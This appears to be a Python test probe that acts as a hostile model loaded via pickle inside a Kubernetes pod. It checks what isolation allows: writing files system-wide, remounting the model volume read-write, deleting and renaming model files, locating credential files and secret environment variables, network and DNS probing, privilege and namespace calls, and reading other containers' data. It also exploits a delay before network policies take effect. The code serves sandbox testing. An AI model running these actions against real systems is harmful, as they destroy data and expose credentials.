"""What a hostile model tries from inside the server's pod, and what it managed.

This file runs by itself where there is no checkout: its text is in a pickle, which runs it when it is loaded.
"""

from __future__ import annotations

import base64
import concurrent.futures
import contextlib
import ctypes
import json
import os
import re
import socket
import stat
import time
from collections.abc import Callable, Iterator
from pathlib import Path

MARK = "pantry-was-here"
SYSTEM = {"/usr", "/lib", "/bin", "/sbin", "/etc/ssl", "/proc", "/sys", "/dev", "/opt"}
QUESTION = bytes.fromhex("abcd01000001000000000000") + b"\x0akubernetes\x07default\x03svc\x07cluster\x05local\0\0\1\0\1"


def attempt(targets: list[str], words: list[str]) -> dict[str, list[str]]:
    """Try everything; return what was managed, by kind.

    Args:
        targets: HOST:PORT to connect to; with udp/ before it, to ask for a name.
        words: what others' files hold, in base 64.
    """
    return {
        "written": sorted({*places(), *files(), *changes()}),
        "tokens": sorted({*secrets()}),
        "reached": reached(targets),
        "powers": sorted({*powers()}),
        "read": sorted({*read(words)}),
    }


def places() -> Iterator[str]:
    """The topmost directories in which a file can be made."""
    for top in ("/", "/proc/sys"):
        for folder, folders, _ in os.walk(top):
            if folder == "/":
                folders.remove("proc")
            with contextlib.suppress(OSError), Path(folder, MARK).open("w"):
                folders.clear()
                yield folder


def files() -> Iterator[str]:
    """Files that can be opened to be written to, where no file can be made."""
    for top in ("/etc", "/mnt", "/dev", "/sys/fs", "/proc/sys", "/proc/sysrq-trigger"):
        for path in Path(top).rglob("*") if Path(top).is_dir() else [Path(top)]:
            with contextlib.suppress(OSError):
                kind = path.stat().st_mode
                if path.name != MARK and (stat.S_ISREG(kind) or stat.S_ISBLK(kind)):
                    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
                    yield str(path)


def changes() -> Iterator[str]:
    """Changes of the volume for which no file has to be opened."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/mnt/models", None, 32 | 4096, None) == 0:  # MS_REMOUNT | MS_BIND: no longer read-only
        yield "remounted"
    for path in [*Path("/mnt/models").rglob("*")]:
        for change in (lambda p: p.chmod(0o777), lambda p: p.rename(f"{p}-{MARK}"), Path.unlink):
            with contextlib.suppress(OSError):
                change(path)
                yield str(path)


def ours() -> Iterator[Path]:
    """Every file that is not the image's system, nor the kernel's."""
    for folder, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if str(Path(folder, name)) not in SYSTEM]
        yield from (Path(folder, name) for name in names)


def secrets() -> Iterator[str]:
    """Credentials, or what looks like them: tokens of accounts, and variables."""
    if Path("/var/run/secrets").exists():
        yield "/var/run/secrets"
    yield from (str(path) for path in ours() if re.search(r"token|credential|kubeconfig|\.key$", path.name))
    yield from (name for name in os.environ if re.search("TOKEN|SECRET|CREDENTIAL|PASSWORD", name))


def reached(targets: list[str]) -> list[str]:
    """Return which targets took a connection, or answered."""
    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        return [target for target, answered in zip(targets, pool.map(reach, targets), strict=True) if answered]


def reach(target: str) -> bool:
    host, _, port = target.removeprefix("udp/").rpartition(":")
    try:
        if target.startswith("udp/"):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
                asking.settimeout(3)
                asking.sendto(QUESTION, (host, int(port)))
                return bool(asking.recv(512))
        socket.create_connection((host, int(port)), timeout=3).close()
    except OSError:
        return False
    return True


def powers() -> Iterator[str]:
    """Whatever an ordinary process of an ordinary user does not have."""
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines())
    for name, value in status.items():
        if name.startswith("Cap") and int(value, 16):
            yield f"{name} {value}"
    for name, good in {"NoNewPrivs": "1", "Seccomp": "2"}.items():
        if status[name] != good:
            yield f"{name} {status[name]}"
    if "0" in [*status["Uid"].split(), *status["Gid"].split(), *status["Groups"].split()]:
        yield "root"
    calls: dict[str, Callable[[], object]] = {
        "setuid": lambda: os.setuid(0),
        "setgid": lambda: os.setgid(0),
        "chroot": lambda: os.chroot("/tmp"),
        "mknod": lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)),
        "raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "packet socket": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0),
    }
    for name, call in calls.items():
        with contextlib.suppress(OSError):
            call()
            yield name
    libc = ctypes.CDLL(None, use_errno=True)
    namespaces = {"user namespace": 0x10000000, "mount namespace": 0x20000, "network namespace": 0x40000000}
    for name, flag in namespaces.items():
        if (child := os.fork()) == 0:
            os._exit(libc.unshare(flag) != 0)
        if os.waitpid(child, 0)[1] == 0:
            yield name


def read(words: list[str]) -> Iterator[str]:
    """Files that hold what others keep, and processes of other containers."""
    wanted = [base64.b64decode(word) for word in words]
    for path in ours():
        with contextlib.suppress(OSError), path.open("rb") as file:
            content = file.read(2**20)
            if any(word in content for word in wanted):
                yield str(path)
    for process in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            command = process.read_bytes().replace(b"\0", b" ").decode()
            if re.search(r"pantry sync|sleep infinity|kubelet|containerd", command):
                yield command


class Model:
    """Answers what was managed at its load, or now where it is asked for targets.

    Kubernetes wants a pod isolated before it starts. Where the enforcer of NetworkPolicies takes a second or two, a
    model that is quicker than that is free until then: this one waits, as tests are of the policies.
    """

    def __init__(self, targets: list[str], words: list[str]) -> None:
        time.sleep(5)
        self.words, self.at_load = words, attempt(targets, words)

    def predict(self, asked: list[str]) -> list[str]:
        return [json.dumps(attempt(targets.split(), self.words) if targets else self.at_load) for targets in asked]
